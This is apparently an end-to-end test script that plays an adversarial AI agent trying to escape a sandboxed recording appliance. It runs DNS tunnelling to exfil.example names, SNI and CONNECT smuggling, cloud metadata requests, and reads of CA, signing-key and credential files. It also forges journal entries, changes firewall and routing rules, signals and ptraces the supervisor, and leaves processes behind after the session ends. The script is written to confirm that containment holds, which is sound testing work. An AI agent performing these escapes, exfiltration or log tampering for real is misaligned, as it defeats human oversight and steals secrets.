"""An agent that tries to get around the recorder; run by tests/e2e/test_adversarial.py.

It runs as the agent's Unix user inside a session, with the agent venv's Python (3.11, standard
library only). Its inputs come from `handoff.json` beside it, which the test writes after it
started the appliance (so it can name the appliance's pid, which the agent's PID namespace
hides). Every attempt runs with a client-side timeout, so a hang shows as TimeoutError rather
than stalling the suite. The results are one JSON line `RESULTS {...}` on stdout. Then the
script prints `READY` and waits for the test's `release` file, while the test probes the
firewall as root. Finally it leaves a grandchild and a sleeper behind, and exits.
"""

from __future__ import annotations

import ctypes
import json
import os
import signal
import socket
import ssl
import struct
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
TIMEOUT = 5.0
results: dict[str, dict[str, Any]] = {}


def wait_for(path: Path, seconds: float = 60.0) -> None:
    deadline = time.monotonic() + seconds
    while not path.exists():
        if time.monotonic() > deadline:
            raise SystemExit(f"adversary: {path} never appeared")
        time.sleep(0.05)


def attempt(name: str) -> Callable[[Callable[[], dict[str, Any] | None]], None]:
    """Run the decorated function now and file its outcome under `name`."""

    def run(function: Callable[[], dict[str, Any] | None]) -> None:
        started = time.monotonic()
        try:
            outcome: dict[str, Any] = {"ok": True, **(function() or {})}
        except Exception as error:  # noqa: BLE001 - every failure is an outcome to report.
            outcome = {"ok": False, "error": type(error).__name__, "message": str(error),
                       "errno": getattr(error, "errno", None)}
        outcome["seconds"] = round(time.monotonic() - started, 2)
        results[name] = outcome

    return run


def read_response(stream: socket.socket) -> dict[str, Any]:
    data = b""
    while True:
        chunk = stream.recv(65536)
        if not chunk:
            break
        data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    status_line = head.split(b"\r\n", 1)[0].decode("latin-1")
    parts = status_line.split(" ", 2)
    status = int(parts[1]) if len(parts) > 1 and parts[1].isdigit() else None
    return {"status": status, "status_line": status_line,
            "body": body[:2000].decode("utf-8", "replace")}


def request(method: str, target: str, host: str, extra: str = "", body: bytes = b"") -> bytes:
    head = f"{method} {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n{extra}"
    if body:
        head += f"Content-Length: {len(body)}\r\n"
    return head.encode() + b"\r\n" + body


def https(address: str, port: int, sni: str | None, payload: bytes) -> dict[str, Any]:
    context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
    context.check_hostname = False
    with socket.create_connection((address, port), timeout=TIMEOUT) as raw, \
            context.wrap_socket(raw, server_hostname=sni) as tls:
        tls.sendall(payload)
        return read_response(tls)


def plain(address: str, port: int, payload: bytes) -> dict[str, Any]:
    with socket.create_connection((address, port), timeout=TIMEOUT) as connection:
        connection.sendall(payload)
        return read_response(connection)


def dns_query(name: str, transaction: int = 0x4242) -> bytes:
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack(">HHHHHH", transaction, 0x0100, 1, 0, 0, 0) + labels + b"\0" + \
        struct.pack(">HH", 1, 1)


def udp_exchange(address: str, port: int, payload: bytes) -> dict[str, Any]:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.settimeout(3)
        udp.connect((address, port))
        udp.send(payload)
        return {"received": udp.recv(4096).hex()}


def gateway() -> str:
    """The session's host-side address, which the namespace's resolv.conf names."""
    for line in Path("/etc/resolv.conf").read_text().splitlines():
        if line.startswith("nameserver"):
            return line.split()[1]
    raise RuntimeError("no nameserver in /etc/resolv.conf")


def find(binary: str) -> str | None:
    for directory in ("/usr/sbin", "/usr/bin", "/sbin", "/bin"):
        if os.path.exists(f"{directory}/{binary}"):
            return f"{directory}/{binary}"
    return None


def run(*command: str) -> dict[str, Any]:
    command = (find(command[0]) or command[0], *command[1:])
    result = subprocess.run(command, capture_output=True, text=True, timeout=15,
                            stdin=subprocess.DEVNULL, check=False)
    if result.returncode != 0:
        raise RuntimeError(f"exit {result.returncode}: {(result.stderr or result.stdout)[-300:]}")
    return {"stdout": result.stdout[-300:]}


def network_attempts(handoff: dict[str, Any]) -> None:
    rest, echo, proxy_port = handoff["rest_address"], handoff["echo_address"], handoff["proxy_port"]
    host = gateway()

    attempt("tls_upstream_other_port")(lambda: https(
        rest, 8443, "bigquery.googleapis.com",
        request("GET", "/bigquery/v2/projects", "bigquery.googleapis.com")))
    attempt("plain_upstream_other_port")(lambda: plain(
        rest, 9000, request("GET", "/", "bigquery.googleapis.com")))
    attempt("quic_udp_443")(lambda: udp_exchange(rest, 443, b"\xc3\x00\x00\x00\x01" + b"\0" * 64))
    attempt("dns_udp_outside_resolver")(lambda: udp_exchange(
        echo, 53, dns_query("outside-probe.exfil.example")))

    @attempt("dns_tcp_outside_resolver")
    def _() -> dict[str, Any]:
        query = dns_query("outside-tcp.exfil.example")
        with socket.create_connection((echo, 53), timeout=TIMEOUT) as connection:
            connection.sendall(struct.pack(">H", len(query)) + query)
            return {"received": connection.recv(4096).hex()}

    @attempt("ipv6_tcp")
    def _() -> dict[str, Any]:
        with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as connection:
            connection.settimeout(TIMEOUT)
            connection.connect(("fd00:198:18::1", 443))
        return {}

    attempt("raw_socket")(lambda: {"fd": socket.socket(socket.AF_INET, socket.SOCK_RAW,
                                                       socket.IPPROTO_RAW).fileno()})
    attempt("packet_socket")(lambda: {"fd": socket.socket(socket.AF_PACKET, socket.SOCK_RAW,
                                                          socket.htons(3)).fileno()})
    attempt("icmp_datagram_socket")(lambda: {"fd": socket.socket(
        socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP).fileno()})

    @attempt("dns_tunnel_names")
    def _() -> dict[str, Any]:
        answered = []
        for chunk in handoff["tunnel_chunks"]:
            try:
                answered.append(socket.getaddrinfo(f"{chunk}.t.exfil.example", 443)[0][4][0])
            except socket.gaierror:
                pass
        if not answered:
            raise RuntimeError("every tunnelling name was refused")
        return {"answered": answered}

    attempt("dns_allowed_name")(lambda: {"address": socket.gethostbyname(
        "bigquery.googleapis.com")})

    @attempt("dns_refused_name")
    def _() -> dict[str, Any]:
        return {"address": socket.gethostbyname("dns.test")}

    # From here the agent connects to literal addresses, because the resolver rejects these
    # names.
    attempt("dns_over_https")(lambda: https(
        echo, 443, "dns.test", request("POST", "/dns-query", "dns.test",
                                       "Content-Type: application/dns-message\r\n",
                                       dns_query("doh-probe.exfil.example"))))
    attempt("https_not_allowlisted")(lambda: https(
        echo, 443, "blocked.test", request("GET", "/secret", "blocked.test")))
    attempt("tls_without_sni")(lambda: https(
        echo, 443, None, request("GET", "/", "example.test")))
    attempt("sni_host_mismatch")(lambda: https(
        echo, 443, "example.test", request("GET", "/", "blocked.test")))
    attempt("absolute_form_mismatch")(lambda: https(
        echo, 443, "example.test", request("GET", "https://blocked.test/x", "example.test")))
    attempt("connect_plain")(lambda: plain(
        echo, handoff["echo_plain_port"], request("CONNECT", "blocked.test:443",
                                                  "blocked.test:443")))
    attempt("connect_in_tls")(lambda: https(
        echo, 443, "example.test", request("CONNECT", "blocked.test:443", "blocked.test:443")))

    @attempt("proxy_port_direct")
    def _() -> dict[str, Any]:
        with socket.create_connection((host, proxy_port), timeout=TIMEOUT):
            return {}

    attempt("proxy_loop_by_sni")(lambda: https(
        host, 443, "bigquery.googleapis.com",
        request("GET", "/bigquery/v2/projects", "bigquery.googleapis.com")))
    attempt("udp_to_resolver_other_port")(lambda: udp_exchange(host, 5353, dns_query("x.test")))

    @attempt("subprocess_not_allowlisted")
    def _() -> dict[str, Any]:
        child = (f"import socket, ssl, os; ctx = ssl.create_default_context(); "
                 f"s = ctx.wrap_socket(socket.create_connection(('{echo}', 443), timeout=5), "
                 f"server_hostname='blocked.test'); "
                 f"s.sendall(b'GET /from-child HTTP/1.1\\r\\nHost: blocked.test\\r\\n"
                 f"Connection: close\\r\\n\\r\\n'); print(s.recv(100)[:12].decode())")
        output = run(sys.executable, "-c", child, "child-marker")["stdout"]
        return {"status": int(output.split()[1]) if len(output.split()) > 1 else None}

    attempt("metadata_control")(lambda: plain(
        "169.254.169.254", 80, request("GET", "/computeMetadata/v1/project/project-id",
                                       "metadata.google.internal", "Metadata-Flavor: Google\r\n")))


def local_attempts(handoff: dict[str, Any]) -> None:
    store = Path(handoff["store"])
    session_id = os.environ["APPLIANCE_SESSION_ID"]
    libc = ctypes.CDLL(None, use_errno=True)

    def read(path: str) -> dict[str, Any]:
        with open(path, "rb") as file:
            return {"bytes": len(file.read())}

    @attempt("read_store")
    def _() -> dict[str, Any]:
        listing = os.listdir(store)
        if not listing:
            raise PermissionError(f"{store} shows nothing")
        return {"listing": listing}

    attempt("read_catalog")(lambda: read(str(store / "catalog.duckdb")))
    attempt("read_ca_key")(lambda: read(handoff["ca_key"]))
    attempt("read_signing_key")(lambda: read(handoff["signing_key"]))
    for index, path in enumerate(handoff["credential_files"]):
        attempt(f"read_credential_file_{index}")(lambda path=path: read(path))

    @attempt("append_to_journal")
    def _() -> dict[str, Any]:
        with open(store / "journal" / f"{session_id}.jsonl", "ab") as journal:
            journal.write(b'{"kind":"forged"}\n')
        return {}

    @attempt("create_journal_file")
    def _() -> dict[str, Any]:
        with open(store / "journal" / "forged.jsonl", "wb") as journal:
            journal.write(b"{}\n")
        return {}

    attempt("nft_list_ruleset")(lambda: run("nft", "list", "ruleset"))
    attempt("nft_add_table")(lambda: run("nft", "add", "table", "inet", "agent_x"))
    attempt("ip_route_add")(lambda: run("ip", "route", "add", "198.19.117.0/24", "via",
                                        gateway()))
    attempt("ip_route_delete_default")(lambda: run("ip", "route", "del", "default"))
    attempt("ip_addr_add")(lambda: run("ip", "addr", "add", "198.18.107.250/32", "dev", "lo"))

    pid = int(handoff["appliance_pid"])
    attempt("signal_appliance")(lambda: os.kill(pid, signal.SIGTERM))
    attempt("probe_appliance")(lambda: os.kill(pid, 0))
    attempt("signal_sandbox_init")(lambda: os.kill(1, signal.SIGKILL))

    def ptrace_attach(target: int) -> dict[str, Any]:
        if libc.ptrace(16, target, None, None) != 0:  # PTRACE_ATTACH
            error = ctypes.get_errno()
            raise OSError(error, os.strerror(error))
        return {}

    attempt("ptrace_appliance")(lambda: ptrace_attach(pid))
    attempt("ptrace_sandbox_init")(lambda: ptrace_attach(1))
    attempt("read_init_environment")(lambda: read("/proc/1/environ"))
    for binary, command in (("sudo", ["sudo", "-n", "id", "-u"]),
                            ("su", ["su", "-c", "id -u", "root"]),
                            ("ping", ["ping", "-c", "1", "-W", "1", handoff["echo_address"]])):
        name = f"setuid_{binary}"
        if find(binary) is None:
            results[name] = {"ok": False, "not_installed": True}
            continue
        attempt(name)(lambda command=command: run(*command))


def leave_processes_behind(handoff: dict[str, Any]) -> None:
    """Fork a grandchild that sleeps on, and a sleeper that acts after the agent exits."""
    for role in ("grandchild", "sleeper"):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                if role == "grandchild":
                    time.sleep(300)
                else:
                    time.sleep(handoff["sleeper_delay"])
                    Path(handoff["sleeper_marker"]).write_text("still alive\n")
                    try:
                        https(handoff["echo_address"], 443, "example.test",
                              request("GET", f"/{handoff['sleeper_path']}", "example.test"))
                    except OSError:
                        pass
            os._exit(0)


def main() -> None:
    wait_for(HERE / "handoff.json")
    handoff = json.loads((HERE / "handoff.json").read_text())
    network_attempts(handoff)
    local_attempts(handoff)
    print("RESULTS " + json.dumps(results, sort_keys=True), flush=True)
    print("READY", flush=True)
    wait_for(HERE / "release")
    leave_processes_behind(handoff)


if __name__ == "__main__":
    main()
